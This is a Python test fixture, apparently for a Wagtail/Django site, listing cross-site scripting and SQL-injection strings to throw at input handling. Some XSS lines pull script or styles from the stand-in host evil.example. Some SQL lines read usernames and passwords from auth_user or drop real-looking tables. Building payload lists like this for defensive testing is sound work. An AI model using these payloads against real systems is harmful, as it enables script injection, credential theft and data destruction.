"""Hostile strings for the security tests, written for this project after the public XSS and SQL-injection
cheat sheets: each line is one trick a cheat sheet names, kept short so that it fits a name or a title.
"""

XSS_PAYLOADS = [
    # Plain script tags, upper case, split and nested so that a one-pass filter rebuilds them.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(2)</scr</script>ipt>",
    "<script/xss src=data:,alert(3)></script>",
    # Event handlers on harmless-looking tags.
    "<img src=x onerror=alert(4)>",
    '<img src="x" onerror="alert(5)"/>',
    "<body onload=alert(6)>",
    "<details open ontoggle=alert(7)>",
    "<input autofocus onfocus=alert(8)>",
    "<video><source onerror=alert(9)></video>",
    "<marquee onstart=alert(10)>",
    # Script URLs, with tricks to hide the scheme.
    '<a href="javascript:alert(11)">link</a>',
    '<a href="JaVaScRiPt:alert(12)">link</a>',
    '<a href="jav&#x09;ascript:alert(13)">link</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(14)">link</a>',
    '<a href=" javascript:alert(15)">link</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxNik8L3NjcmlwdD4=">link</a>',
    '<iframe src="javascript:alert(17)"></iframe>',
    '<form action="javascript:alert(18)"><button>go</button></form>',
    "javascript:alert(19)",
    # SVG and MathML.
    "<svg onload=alert(20)>",
    "<svg><script>alert(21)</script></svg>",
    '<svg><a xlink:href="javascript:alert(22)"><text y="20">x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(23)></style></mglyph></table></mtext></math>",
    # Attribute and element breakouts.
    '"><script>alert(24)</script>',
    "'><img src=x onerror=alert(25)>",
    '" onmouseover="alert(26)" x="',
    "' autofocus onfocus='alert(27)",
    "</textarea><script>alert(28)</script>",
    "</title><script>alert(29)</script>",
    "</script><script>alert(30)</script>",
    "</style><img src=x onerror=alert(31)>",
    "<!--<img src=--><img src=x onerror=alert(32)//-->",
    "<![CDATA[<script>alert(33)</script>]]>",
    # Entities and encodings that decode into markup.
    "&lt;script&gt;alert(34)&lt;/script&gt;",
    "&#60;script&#62;alert(35)&#60;/script&#62;",
    "%3Cscript%3Ealert(36)%3C%2Fscript%3E",
    "\u003cscript\u003ealert(37)\u003c/script\u003e",
    "\uff1cscript\uff1ealert(38)\uff1c/script\uff1e",
    # Other ways to run or load code.
    '<object data="javascript:alert(39)"></object>',
    '<embed src="data:image/svg+xml,<svg onload=alert(40)>">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(41)">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<div style="background:url(javascript:alert(42))">x</div>',
    '<div style="width:expression(alert(43))">x</div>',
    "{{ 7|add:7 }}{% debug %}",
    "${alert(44)}<%= 7*7 %>",
]

SQL_INJECTION_PAYLOADS = [
    "' OR '1'='1",
    "' OR 1=1 --",
    '" OR ""="',
    "1; DROP TABLE wagtailcore_page; --",
    "1' AND SLEEP(0) AND '1'='1",
    "1 UNION SELECT username, password FROM auth_user --",
    "') OR ('x'='x",
    "admin'--",
    "1)) OR 1=1 /*",
    "%27%20OR%201%3D1",
    "1' ORDER BY 99 --",
    "'; SELECT pg_sleep(0); --",
    "\\'; DROP TABLE comments_comment; --",
    "1 AND 1=CAST((SELECT version()) AS int)",
    "\x00' OR 1=1",
]
